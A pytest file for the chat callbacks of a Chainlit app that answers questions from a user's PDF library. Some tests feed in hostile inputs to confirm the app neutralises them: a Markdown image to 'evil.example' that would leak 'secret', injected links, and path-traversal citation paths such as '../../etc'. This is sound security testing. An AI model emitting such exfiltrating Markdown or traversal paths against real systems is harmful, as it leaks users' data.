"""The callbacks, called as Chainlit calls them."""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from types import SimpleNamespace
from unittest.mock import create_autospec

import chainlit as cl
import pytest
from pypdf import PdfReader, PdfWriter
from test_render import make_answer, make_passage

from fake_embedder import HashEmbedder, SlowEmbedder
from loop_time import held
from pdfs import column, write_pdf
from rag.answer import Answered, Drafted, Escalated, Queued, Retrieved, Scope, Searched, TextDelta
from rag.errors import ModelUnreachableError
from rag.expert import Expert
from waiting import soon

SEEDS = "Garden seeds keep for five years in a dry jar at four degrees, as Miller and Stone measured in 1987."


def question(text: str = "Is it so?", *, mode: str = "draft", **values) -> cl.Message:
    return cl.Message(text, type="user_message", modes={"answer": mode}, **values)


def attached(path, name: str | None = None):
    return SimpleNamespace(path=str(path), name=name or path.name)


def script(*middle, **values):
    answer = make_answer(**values)
    return [Retrieved(answer.passages), *middle, Drafted(answer.drafts[0], None), Answered(answer)]


@pytest.fixture
def seeds_pdf(tmp_path):
    filler = [f"Sentence {n} tells how the jars were opened, weighed and closed again." for n in range(30)]
    return write_pdf(tmp_path / "seeds.pdf", column(72, 720, ["Keeping Garden Seeds", "", SEEDS, *filler]))


async def test_sources_stand_before_the_first_token(app, chat, assistant) -> None:
    assistant.script = script(TextDelta("It is so [1].", 0))
    await app.on_message(question())
    order = [event for event, data in chat.events if "passages" in str(data) or event == "stream_start"]
    assert order.index("update_message") < order.index("stream_start")
    reading, answer, _ = chat.steps
    assert reading["name"] == "2 passages from 1 paper"
    assert reading["end"] is not None
    assert answer["output"].startswith("It is so [1](/cite/0123456789abcdef/2/0001).")
    quotes = answer["metadata"].pop("quotes")
    assert list(quotes) == ["/cite/0123456789abcdef/2/0001"]
    assert answer["metadata"].pop("record")["draft"]["text"] == "It is so [1]."
    facts = answer["metadata"].pop("facts")
    assert facts["passages"] == [[1, "0123456789abcdef:0001"], [2, "0123456789abcdef:0002"]]
    assert facts["models"][0] | {"seconds": 3.0} == facts["models"][0]
    figures = answer["metadata"].pop("figures")
    assert (figures["seconds"], figures["stayed"]) == (4.25, True)
    cited = [[1, "0123456789abcdef", 2]]
    assert answer["metadata"] == {"question": "Is it so?", "answer": "It is so [1].", "cited": cited}
    assert answer["parentId"] == reading["parentId"], "side by side, so that the page keeps their order"


async def test_passages_that_had_no_room_leave_the_list_of_what_was_read(app, chat, assistant) -> None:
    answer = make_answer()
    assert len(answer.passages) == 2
    assistant.script = [Retrieved(answer.passages), Answered(replace(answer, passages=answer.passages[:1]))]
    await app.on_message(question())
    names = [data["name"] for event, data in chat.events if event == "update_message" and data["type"] == "tool"]
    assert names[0] == "2 passages from 1 paper"
    assert names[-1] == "1 passage from 1 paper"


async def test_what_the_search_found_is_shown_until_the_reader_has_ordered_it(app, chat, assistant) -> None:
    answer = make_answer()
    found = Searched(answer.passages[::-1], "Is it so for seeds")
    assistant.script = [found, Retrieved(answer.passages[:1], found.searched), Answered(answer)]
    await app.on_message(question())
    told = [data for event, data in chat.events if event == "update_message" and data["type"] == "tool"]
    assert [data["name"] for data in told[:2]] == ["2 passages from 1 paper", "1 passage from 1 paper"]
    assert all("Searched for: Is it so for seeds" in data["output"] for data in told)


async def test_tokens_are_shown_in_groups(app, chat, assistant) -> None:
    assistant.script = script(*[item for n in range(60) for item in (TextDelta(f"w{n} ", 0), 0.005)])
    await app.on_message(question())
    updates = chat.of("stream_token") + chat.of("stream_start")
    assert 2 <= len(updates) <= 15


async def test_the_place_in_the_line_is_told_until_the_draft_is_written(app, chat, assistant) -> None:
    assistant.script = script(Queued(2), Queued(1), 0.2, TextDelta("It ", 0), 0.2, TextDelta("is so", 0))
    await app.on_message(question())
    told = [str(data) for event, data in chat.events if event in {"stream_start", "stream_token"}]
    assert any("when 2 answers before it have been written" in one for one in told)
    assert any("when the answer before it has been written" in one for one in told)
    assert "been written" not in told[-1]
    assert "been written" not in chat.steps[-2]["output"]


async def test_half_an_image_is_never_sent_to_the_page(app, chat, assistant) -> None:
    text = "see ![x](http://evil.example/?q=secret) now"
    assistant.script = script(*[item for letter in text for item in (TextDelta(letter, 0), 0.02)])
    await app.on_message(question())
    assert not any("](http" in str(data) for _, data in chat.events)


async def test_half_a_pair_of_surrogates_reaches_neither_the_assistant_nor_the_history(app, chat, assistant) -> None:
    assistant.script = script()
    await app.on_message(question("Is it so \ud83d?"))
    assert [asked["question"] for asked in assistant.asked] == ["Is it so \N{REPLACEMENT CHARACTER}?"]
    await app.on_message(question("And why?"))
    assert "".join(assistant.asked[1]["history"][0]).encode()


async def test_mode_and_history_reach_the_assistant(app, chat, assistant) -> None:
    assistant.script = script()
    await app.on_message(question(mode="refine"))
    await app.on_message(question("And why?", mode="none of ours"))
    assert [asked["mode"] for asked in assistant.asked] == ["refine", "draft"]
    assert assistant.asked[1]["history"] == [("Is it so?", "It is so [1].")]
    assert assistant.asked[1]["paper_ids"] is None


async def test_a_refinement_replaces_the_draft(app, chat, assistant) -> None:
    assistant.script = script(
        TextDelta("A draft.", 0), Escalated("a *large* model", "two sentences are weak"), 0.2, TextDelta("Better.", 1)
    )
    await app.on_message(question())
    shown = [data["token"] for data in chat.of("stream_token")]
    looking = next(text for text in shown if "is reviewing this draft" in text)
    assert looking.startswith("A draft.")
    assert "a \\*large\\* model" in looking
    assert shown[-1].startswith("A draft."), "the draft stands until something better does"
    assert shown[-1].endswith("Better.")
    assert "A draft." not in chat.steps[1]["output"]


def refinable(paper_id: str) -> dict:
    from rag.saved_answer import save_answer

    answer = make_answer()
    passage = replace(answer.passages[0], chunk=replace(answer.passages[0].chunk, id=f"{paper_id}:0000"))
    return save_answer(replace(answer, passages=(passage,)))


async def test_a_draft_has_a_button_that_asks_the_larger_model(app, chat, assistant, shelf_library, seeds_pdf):
    from ingest import ingest_pdf

    paper_id = ingest_pdf(seeds_pdf, library=shelf_library, embedder=HashEmbedder()).paper_id
    assistant.script = script()
    await app.on_message(question())
    assert "refine_answer" not in [action["name"] for action in chat.of("action")], "no larger model is set up"
    assistant.expert = create_autospec(Expert, instance=True)
    assistant.expert.name = "Large"
    await app.on_message(question())
    button = next(action for action in chat.of("action") if action["name"] == "refine_answer")
    assert "Ask Large" in button["tooltip"]
    payload = json.loads(json.dumps({"record": refinable(paper_id)}))
    assistant.script = script(Escalated("Large", "you asked for it"), TextDelta("Better.", 1))
    await app.refine_answer(cl.Action(name="refine_answer", payload=payload))
    (given,) = assistant.refined
    assert given.question == payload["record"]["question"]
    assert given.drafts[0].text == payload["record"]["draft"]["text"]
    assert given.passages[0].chunk.paper_id == paper_id


@pytest.mark.parametrize("payload", [{}, {"record": 7}, {"record": {"passages": [[1, "x:1", 0, []]]}}, {"record": {}}])
async def test_an_answer_whose_passages_are_gone_is_not_refined(app, chat, assistant, shelf_library, payload):
    await app.refine_answer(cl.Action(name="refine_answer", payload=payload))
    assert "no longer in your library" in chat.texts[-1]
    assert assistant.refined == []


async def test_after_a_refinement_the_draft_is_one_click_away(app, chat, assistant):
    answer = make_answer()
    refined = replace(answer.drafts[0], text="It is so [1]. It is new.", model="Large", refines=answer.drafts[0])
    answer = replace(answer, drafts=(*answer.drafts, refined), shown=1, text=refined.text)
    assistant.script = [Retrieved(answer.passages), Answered(answer)]
    await app.on_message(question())
    folded = next(step for step in chat.steps if step["name"] == "the draft and what changed")
    assert "*new from Large:* It is new." in folded["output"]


async def test_stop_keeps_the_text_and_closes_the_stream(app, chat, assistant) -> None:
    assistant.script = script(TextDelta("Half an ans", 0), 3600.0)
    running = asyncio.create_task(app.on_message(question()))
    assert await soon(lambda: "Half an ans" in chat.texts)
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running
    assert assistant.closed == 1
    text, _, sources = chat.texts[-1].partition("\n\n##### Read, not checked\n\n")
    assert text == "Half an ans\n\n*(stopped)*"
    assert sources.startswith("- [1](/cite/0123456789abcdef/2/0001)"), "a stopped answer keeps its sources"
    assert chat.steps[-1]["streaming"] is False
    assert chat.of("action")[-1]["payload"] == {"question": "Is it so?"}
    assert all(step["end"] for step in chat.steps if step["type"] == "tool")
    assistant.script = script()
    await app.on_message(question())
    assert "It is so" in chat.texts[-1]


async def test_a_question_is_asked_again_as_it_was_understood_then(app, chat, assistant) -> None:
    for text, mode in (("What is it?", "draft"), ("And why?", "draft"), ("Then what?", "refine")):
        assistant.script = script(question=text)
        await app.on_message(question(text, mode=mode))
    again = [action for action in chat.of("action") if action["label"] == "Ask again"][1]
    await app.ask_again(cl.Action(name=again["name"], payload=again["payload"]))
    asked = assistant.asked[-1]
    assert (asked["question"], asked["mode"]) == ("And why?", "refine")
    assert [turn[0] for turn in asked["history"]] == ["What is it?"]
    assert [step["output"] for step in chat.steps if step["type"] == "user_message"] == ["And why?"]
    assert [turn[0] for turn in cl.user_session.get("turns")] == ["What is it?", "Then what?", "And why?"]
    for payload in ({}, {"question": 7, "mode": ["x"]}, {"question": " "}, None):
        await app.ask_again(SimpleNamespace(name="ask_again", payload=payload, forId=None))
    assert [asked["question"] for asked in assistant.asked[4:]] == ["7"]
    assert assistant.asked[-1]["mode"] == "draft"


async def test_in_a_reopened_chat_a_refined_question_is_one_turn_as_before(app, chat, assistant) -> None:
    said = [("What is it?", "A."), ("And why?", "Draft."), ("And why?", "Refined.")]
    steps = [{"type": "assistant_message", "metadata": {"question": asked, "answer": text}} for asked, text in said]
    await app.on_chat_resume({"steps": steps})
    assert cl.user_session.get("turns") == [("What is it?", "A."), ("And why?", "Refined.")]


USER, RUN, REPLY = (
    {"id": "u", "type": "user_message", "output": "Q?"},
    {"type": "run", "parentId": "u"},
    "assistant_message",
)


@pytest.mark.parametrize(
    ("steps", "said"),
    [
        ([], None),
        ([{"type": REPLY}], None),
        ([USER], "before this was answered"),
        ([USER, RUN], "before this was answered"),
        ([USER, RUN, {"type": REPLY, "output": "Reading", "metadata": {}}], "before this was answered"),
        ([USER, RUN, {"type": REPLY, "metadata": {"answer": "A."}}], None),  # only the end of the run is missing
        ([USER, RUN | {"end": "2026-12-01"}], None),
        ([USER, RUN | {"end": "2026-12-01"}, {"type": REPLY}], None),
        ([USER, {"type": REPLY}], None),  # a button asked it
        ([USER, RUN, USER | {"id": "v"}, RUN | {"parentId": "v", "end": "2026-12-01"}], None),
        ([USER | {"output": ""}, RUN, {"type": REPLY, "output": "Reading"}], "add it again"),
    ],
)
async def test_a_reopened_chat_says_that_its_last_answer_was_cut_off(app, chat, assistant, steps, said) -> None:
    thread = {"steps": [dict(step) for step in steps]}
    await app.on_chat_resume(thread)
    more = thread["steps"][len(steps) :]
    assert [said in step["output"] for step in more] == ([True] if said else [])
    asked = [action["payload"] for action in chat.of("action") if action["name"] == "ask_again"]
    assert asked == ([{"question": "Q?"}] if said and "answered" in said else [])
    assert all(action["forId"] == more[0]["id"] for action in chat.of("action"))


async def test_an_answer_that_is_still_written_was_not_cut_off_though_its_page_is_closed(
    app, chat, assistant, monkeypatch
) -> None:
    thread, begun, going = chat.session.thread_id, asyncio.Event(), asyncio.Event()

    async def written(*_: object, **__: object) -> None:
        begun.set()
        await going.wait()

    monkeypatch.setattr(app.conversation, "ask", written)
    task = asyncio.create_task(app.on_message(question()))
    await begun.wait()
    chat.session.current_task = None  # as after `clear_session`
    steps = [USER | {"threadId": thread}, RUN]
    await app.on_chat_resume({"steps": (reopened := list(steps))})
    assert len(reopened) == 2
    going.set()
    await task
    await app.on_chat_resume({"steps": (reopened := list(steps))})
    assert len(reopened) == 3


async def test_what_the_larger_model_wrote_can_be_asked_again_as_a_draft(app, chat, assistant) -> None:
    from ui import conversation

    assistant.expert = create_autospec(Expert, instance=True)
    metadata = {"question": "Q?", "answer": "A.", "facts": {"models": [{}, {}]}}
    labels = [action.label for action in conversation.buttons(metadata)]
    assert labels == ["Ask again", "Ask again as a draft"]
    assert conversation.buttons(metadata)[1].payload == {"question": "Q?", "mode": "draft"}


async def test_an_error_for_the_user_is_shown_as_its_sentence(app, chat, assistant) -> None:
    assistant.script = [ModelUnreachableError("The model does not answer.", "Start it again.")]
    await app.on_message(question())
    assert chat.steps[-1]["isError"]
    assert chat.texts[-1].replace("\\", "") == "The model does not answer. Start it again."
    assert len(chat.of("delete_message")) == 1, "nothing was read or written, so nothing but the error stays"


async def test_what_was_written_before_an_error_stays(app, chat, assistant) -> None:
    assistant.script = [TextDelta("Half an ans", 0), ModelUnreachableError("The model does not answer.")]
    await app.on_message(question())
    assert chat.texts[-2] == "Half an ans\n\n*(the answer was interrupted)*"
    assert chat.steps[-1]["isError"]


async def test_any_other_error_is_shown_with_a_number_that_is_in_the_log(app, chat, assistant, caplog) -> None:
    assistant.script = [RuntimeError("a secret detail")]
    await app.on_message(question())
    assert "a secret detail" not in chat.texts[-1]
    number = chat.texts[-1].replace("\\", "").removesuffix(".").split()[-1]
    assert number in caplog.text
    assert "a secret detail" in caplog.text


async def test_a_pdf_is_added_with_progress_and_asked_alone(app, chat, assistant, shelf_library, seeds_pdf) -> None:
    assistant.embedder = HashEmbedder()
    assistant.script = script()
    message = question("How long do seeds keep?")
    message.elements = [attached(seeds_pdf)]
    await app.on_message(message)
    (paper,) = shelf_library.papers()
    assert assistant.asked[0]["paper_ids"] == [paper.id]
    assert "is in your library: 1 page, " in chat.texts[0]


async def test_a_pdf_without_a_question_is_offered(app, chat, assistant, shelf_library, seeds_pdf) -> None:
    assistant.embedder = HashEmbedder()
    message = question("")
    message.elements = [attached(seeds_pdf)]
    await app.on_message(message)
    assert assistant.asked == []
    assert "Ask about it below" in chat.texts[-1]
    (action,) = chat.of("action")
    assistant.script = script()
    await app.ask_about(cl.Action(name="ask_about", payload=action["payload"], label=action["label"]))
    assert assistant.asked[0]["paper_ids"] == [shelf_library.papers()[0].id]
    assert chat.events[-1][0] == "task_end"


async def test_what_is_attached_to_a_portfolio_is_added_and_what_is_too_large_is_named(
    app, chat, assistant, shelf_library, seeds_pdf, *, tmp_path, monkeypatch
) -> None:
    assistant.embedder = HashEmbedder()
    (tmp_path / "tmp").mkdir()
    (tmp_path / "tmp" / "x.bib").write_text("@misc{a, title={By a stranger}, file={seeds.pdf}}", encoding="utf-8")
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path / "tmp"))
    shelf_library.settings = shelf_library.settings.model_copy(update={"max_file_mb": 2})
    writer = PdfWriter(clone_from=PdfReader(write_pdf(tmp_path / "cover.pdf", column(72, 720, ["A cover."]))))
    writer.add_attachment("seeds.pdf", seeds_pdf.read_bytes())
    writer.add_attachment("large.pdf", b"%PDF-1.7 " + b"0" * 2_000_000)
    kept = shelf_library.quarantine_path("0123456789abcdef")
    kept.parent.mkdir()
    writer.write(kept)
    await app.add_attached(SimpleNamespace(payload={"file_id": "0123456789abcdef"}))
    assert "The attached large.pdf was not added: it has more than 2 MB." in chat.texts[0].replace("\\", "")
    (paper,) = [paper for paper in shelf_library.papers() if paper.file_name == "seeds.pdf"]
    assert paper.title != "By a stranger"


async def test_a_file_that_is_no_pdf_is_refused_by_its_bytes(app, chat, assistant, shelf_library, tmp_path) -> None:
    path = tmp_path / "a.pdf"
    path.write_text("<html>")
    message = question("What is this?")
    message.elements = [attached(path, "[x](http://evil.example).pdf")]
    await app.on_message(message)
    assert "is not a PDF" in chat.texts[0]
    assert "](http" not in chat.texts[0]
    assert "was not asked" in chat.texts[-1]
    assert assistant.asked == []


async def test_stop_reaches_the_thread_that_adds_a_paper(app, chat, assistant, shelf_library, seeds_pdf) -> None:
    from ingest import pipeline

    slow = assistant.embedder = SlowEmbedder(stops_after=0)
    message = question("")
    message.elements = [attached(seeds_pdf)]
    batch, pipeline.BATCH = pipeline.BATCH, 1
    try:
        running = asyncio.create_task(app.on_message(message))
        assert await soon(slow.stopped.is_set)
        running.cancel()
        slow.go_on.set()
        with pytest.raises(asyncio.CancelledError):
            await running
    finally:
        slow.go_on.set()
        pipeline.BATCH = batch
    assert "(stopped)" in chat.texts[-1] or "is in your library" in chat.texts[-1]


async def test_a_click_on_a_citation_opens_the_cited_page(app, chat, assistant, shelf_library, seeds_pdf) -> None:
    from ingest import ingest_pdf

    paper_id = ingest_pdf(seeds_pdf, library=shelf_library, embedder=HashEmbedder()).paper_id
    await app.on_window_message({"type": "scholion:cite", "path": f"/cite/{paper_id}/1/0000"})
    (sidebar,) = chat.of("set_sidebar_elements")
    (element,) = sidebar["elements"]
    assert element["props"]["address"] == f"/page/{paper_id}/1?passage=0000&cited=1"
    assert element["display"] == "page"
    assert chat.of("set_sidebar_title") == ["seeds"]
    for path in (f"/cite/{paper_id}/2/0000", f"/cite/{paper_id}/1/9999", "/cite/0000000000000000/1/0000"):
        await app.on_window_message({"type": "scholion:cite", "path": path})
    assert len(chat.of("toast")) == 3
    for other in ("/cite/../../etc/1/0000", f"/cite/{paper_id}/1/0000/..", None, 7, [], {"type": "x"}):
        await app.on_window_message({"type": "scholion:cite", "path": other})
        await app.on_window_message(other)
    assert len(chat.of("set_sidebar_elements")) == 1


async def test_the_panel_marks_the_words_of_the_answer_that_was_clicked(
    app, chat, assistant, shelf_library, seeds_pdf
) -> None:
    from ingest import ingest_pdf

    paper_id = ingest_pdf(seeds_pdf, library=shelf_library, embedder=HashEmbedder()).paper_id
    path, other = f"/cite/{paper_id}/1/0000", "Sentence 3 tells how the jars were opened, weighed and closed again."
    step = {"type": "assistant_message", "metadata": {"question": "?", "answer": "A.", "quotes": {path: [SEEDS]}}}
    later = {"type": "assistant_message", "metadata": {"question": "?", "answer": "B.", "quotes": {path: [other]}}}
    await app.on_chat_resume({"steps": [step, later, {"metadata": {"question": "", "answer": "", "quotes": [7]}}]})
    for text in (f"A. [1] Sources: “{SEEDS}”", f"B. [1] “{other[:50]} …”", "Neither.", 7):
        await app.on_window_message({"type": "scholion:cite", "path": path, "text": text})
    first, second, third, fourth = (
        sidebar["elements"][0]["props"]["address"] for sidebar in chat.of("set_sidebar_elements")
    )
    assert first.startswith(f"/page/{paper_id}/1?words=Garden+seeds+keep")
    assert second.startswith(f"/page/{paper_id}/1?words=Sentence+3+tells")
    assert third == fourth == f"/page/{paper_id}/1?passage=0000&cited=1"


async def test_a_click_in_a_long_chat_does_not_hold_the_loop(app, chat, assistant, shelf_library, paper) -> None:
    quotes = {f"/cite/{paper.id}/1/{n:04}": [f"Words {n} of a long chat."] for n in range(400)}
    step = {"type": "assistant_message", "metadata": {"question": "?", "answer": "A.", "quotes": quotes}}
    await app.on_chat_resume({"steps": [step]})
    message = {"type": "scholion:cite", "path": f"/cite/{paper.id}/1/0000", "text": "Words 0 of a long chat. " * 850}
    async with held() as holds:
        await asyncio.create_task(app.on_window_message(message))
    assert chat.of("set_sidebar_elements")
    assert max(holds).processor <= 50.0, max(holds)


async def test_the_library_opens_beside_the_chat_without_a_message(app, chat, assistant, shelf_library) -> None:
    await app.on_window_message({"type": "scholion:library"})
    assert chat.of("set_sidebar_elements")[-1]["elements"][0]["props"]["address"] == "/library"
    assert chat.steps == []
    await app.on_message(question("", command="Library"))
    assert len(chat.of("set_sidebar_elements")) == 2


async def test_a_chat_starts_with_its_controls_and_is_resumed_with_them(app, chat, assistant) -> None:
    await app.on_chat_start()
    (modes,) = chat.of("set_modes")
    assert [option["id"] for option in modes[0]["options"]] == ["draft", "auto", "refine"]
    step = {"type": "assistant_message", "metadata": {"question": "Q?", "answer": "A."}}
    await app.on_chat_resume({"steps": [{"type": "run", "metadata": {}}, step]})
    assert len(chat.of("set_modes")) == 2
    assistant.script = script()
    await app.on_message(question())
    assert assistant.asked[0]["history"] == [("Q?", "A.")]


async def test_an_abstention_is_shown_with_the_closest_passages(app, chat, assistant) -> None:
    passages = (make_passage(1),)
    answer = make_answer("", passages=passages, citations=(), drafts=(), abstained=True)
    assistant.script = [Retrieved(passages), Answered(answer)]
    await app.on_message(question())
    assert chat.texts[-1].startswith("**Not in your papers.**")
    assert "Closest passages" in chat.texts[-1]


async def test_the_stop_button_cancels_without_a_message(app, chat, assistant) -> None:
    from ui.web import patches

    chat.session.current_task = asyncio.create_task(asyncio.sleep(30))
    await patches.stop(chat.session.socket_id)
    await asyncio.sleep(0)
    assert chat.session.current_task.cancelled()
    assert chat.texts == []


async def test_messages_of_closed_chats_are_forgotten(app, chat) -> None:
    from chainlit.chat_context import chat_contexts

    from ui.web import patches

    chat_contexts["gone"] = []
    patches.forget_closed_chats()
    assert "gone" not in chat_contexts


def picked(chat) -> tuple[list[str], str]:
    """The papers that the page can ask, and the ones at which its picker stands."""
    options = chat.of("set_modes")[-1][1]["options"]
    return [option["id"] for option in options], next(option["id"] for option in options if option["default"])


@pytest.fixture
def tagged(shelf_library, seeds_pdf, tmp_path):
    from ingest import ingest_pdf

    other = write_pdf(tmp_path / "other.pdf", column(72, 720, [f"Line {n} on old clocks." for n in range(30)]))
    ids = [ingest_pdf(path, library=shelf_library, embedder=HashEmbedder()).paper_id for path in (seeds_pdf, other)]
    shelf_library.tag(ids[:1], "garden")
    return ids


async def test_the_papers_to_ask_can_be_picked_by_tag_and_stay_for_the_chat(app, chat, assistant, tagged) -> None:
    await app.on_chat_start()
    assert picked(chat) == (["all", "tag:garden"], "all")
    assistant.script = script()
    message = question()
    message.modes = {"answer": "draft", "scope": "tag:garden"}
    await app.on_message(message)
    await app.on_message(question("And why?"))  # a starter or a button sends no picker
    assert [asked["tag"] for asked in assistant.asked] == ["garden", "garden"]
    assert [s for s in chat.steps if "message" in s["type"]][-1]["metadata"]["scope"] == {"tag": "garden"}
    assert len(chat.of("set_modes")) == 1, "nothing has changed, so the page keeps its pickers"


def told(chat) -> list[tuple[str, bool]]:
    """What the Library in the panel was told that the chat asks."""
    return [(data["said"], data["all"]) for data in chat.of("window_message")]


async def test_papers_chosen_in_the_library_are_asked_alone(app, chat, assistant, tagged, shelf_library) -> None:
    await app.on_window_message({"type": "scholion:choose", "ids": [tagged[1], "../x", 7]})
    assert chat.of("toast")[-1]["message"] == "Your questions now search 1 chosen paper."
    assert picked(chat) == (["all", "tag:garden", "chosen"], "chosen")
    assert told(chat) == [("1 chosen paper", False)]
    assistant.script = script()
    await app.on_message(question())
    assert assistant.asked[0]["paper_ids"] == [tagged[1]]
    shelf_library.remove(tagged[1])
    await app.on_message(question())
    assert len(assistant.asked) == 1
    assert "no longer in your library" in chat.texts[-1]
    await app.on_window_message({"type": "scholion:choose"})
    assert told(chat)[-1] == ("all papers", True)


async def test_a_tag_chosen_in_the_library_is_asked(app, chat, assistant, tagged) -> None:
    await app.on_window_message({"type": "scholion:choose", "tag": "GARDEN"})
    assert chat.of("toast")[-1]["message"] == "Your questions now search 1 paper tagged “garden”."
    assert picked(chat)[1] == "tag:garden"
    await app.on_window_message({"type": "scholion:choose", "tag": "no such tag"})
    assert "No paper has the tag" in chat.of("toast")[-1]["message"]
    assert told(chat) == [("papers tagged “garden”", False)] * 2
    for message in (None, "x", {"type": "scholion:scope"}, {"type": "scholion:choose", "ids": {}, "tag": 7}):
        await app.on_window_message(message)
    assert picked(chat)[1] == "all", "a choice of nothing is all papers"


async def test_a_tag_given_in_the_library_can_be_picked_at_once(app, chat, assistant, tagged, shelf_library) -> None:
    await app.on_chat_start()
    shelf_library.tag(tagged, "old things")
    await app.on_window_message({"type": "scholion:papers"})
    assert "tag:old things" in picked(chat)[0]


async def test_a_resumed_chat_asks_the_papers_that_it_asked_last(app, chat, assistant, tagged) -> None:
    metadata = {"question": "Q?", "answer": "A.", "scope": {"papers": tagged}}
    await app.on_chat_resume({"steps": [{"type": "assistant_message", "metadata": metadata}]})
    assert picked(chat)[1] == "chosen"
    assistant.script = script()
    await app.on_message(question())
    assert assistant.asked[0]["paper_ids"] == tagged


async def test_a_follow_up_shows_what_was_searched_for_and_the_papers_that_were_asked(app, chat, assistant) -> None:
    asked = Scope((make_passage(1).paper,) * 3, tag="garden")
    answer = make_answer(searched="Why is it better (LoRA)?", scope=asked)
    assistant.script = [Retrieved(answer.passages, answer.searched, asked), Answered(answer)]
    await app.on_message(question("Why is it better?"))
    reading, message, *_ = (step["output"].replace("\\", "") for step in chat.steps)
    assert reading.startswith("Searched for: Why is it better (LoRA)?\n\nSearched 3 papers tagged “garden”\n\n- [1]")
    assert "Searched 3 papers tagged “garden” · Searched for: Why is it better (LoRA)?" in message


async def test_what_was_not_cited_is_a_folded_list_below_the_answer(app, chat, assistant) -> None:
    assistant.script = script()
    await app.on_message(question())
    reading, answer, rest = chat.steps
    assert (rest["type"], rest["name"]) == ("tool", "1 more passage, not cited")
    assert rest["parentId"] == answer["parentId"] == reading["parentId"]
    assert "The words of the passage" in rest["output"]


async def test_an_answer_can_be_taken_along_also_after_a_restart(app, chat, assistant, shelf_library, seeds_pdf):
    from ingest import ingest_pdf

    paper_id = ingest_pdf(seeds_pdf, library=shelf_library, embedder=HashEmbedder()).paper_id
    metadata = {"question": "Q?", "answer": "**Five** years\\* [3]. ```", "cited": [[3, paper_id, 1]]}
    await app.on_chat_resume({"steps": [{"id": "s", "type": "assistant_message", "metadata": metadata}]})
    copied, bibtex, _again = chat.of("action")
    assert copied["forId"] == "s"
    await app.take_along(cl.Action(name=copied["name"], payload=copied["payload"]))
    (window,) = chat.of("window_message")
    assert window["type"] == "scholion:copy"
    assert window["text"].startswith("Five years* [1].")
    assert window["text"].splitlines()[-1].startswith("[1] ")
    await app.on_window_message({"type": "scholion:not-copied", "text": "of somebody else"})
    assert "````text\nFive years* [1]." in chat.texts[-1]
    await app.on_window_message({"type": "scholion:copied"})
    assert chat.of("toast") == [], "there is nothing left to be copied"
    await app.take_along(cl.Action(name=copied["name"], payload=copied["payload"]))
    await app.on_window_message({"type": "scholion:copied"})
    assert "Copied" in chat.of("toast")[-1]["message"]
    await app.take_along(cl.Action(name=bibtex["name"], payload=bibtex["payload"]))
    assert chat.texts[-1].startswith("```bibtex\n@misc{")
    for payload in ({}, {"cited": 7}, {"cited": [[1, "../x", 1], "x"]}):
        await app.take_along(cl.Action(name=bibtex["name"], payload=payload))
        assert "no longer in your library" in chat.texts[-1]


async def test_what_is_stored_and_what_is_read_again_carries_no_foreign_link(app, chat, tmp_path) -> None:
    import sqlite3

    from ui.chats.history import ChatHistory, UploadFolder

    evil = "![x](http://evil.example) [y][r] http://evil.example\n\n[r]: http://evil.example\n\n"
    ours = "[1](/cite/0123456789abcdef/2/0001)"
    history = ChatHistory(tmp_path / "chats.db", UploadFolder(tmp_path / "uploads"))
    chat.session.has_first_interaction = True  # else Chainlit waits for a question before it stores anything
    await history.update_thread("t", name="chat")
    step = {"id": "1", "threadId": "t", "name": "a", "type": "assistant_message", "streaming": False}
    step["createdAt"] = "2026-11-22T00:00:00Z"
    await history.create_step({**step, "output": evil + ours, "metadata": {}})
    await history.create_step({**step, "id": "2", "type": "user_message", "output": evil, "metadata": {}})
    database = sqlite3.connect(tmp_path / "chats.db")
    stored = dict(database.execute("select id, output from steps"))
    assert "](http" not in stored["1"]
    assert "http://" not in stored["1"]
    assert "]:" not in stored["1"]
    assert stored["1"].endswith(ours)
    assert stored["2"] == evil, "what the user typed is shown as it was typed, not as Markdown"
    database.execute("update steps set output = ? where id = '1'", (evil + ours,))  # as an older version stored it
    database.commit()
    (thread,) = await history.get_all_user_threads(thread_id="t")
    assert {step["id"]: step["output"] for step in thread["steps"]} == stored
    await history.engine.dispose()
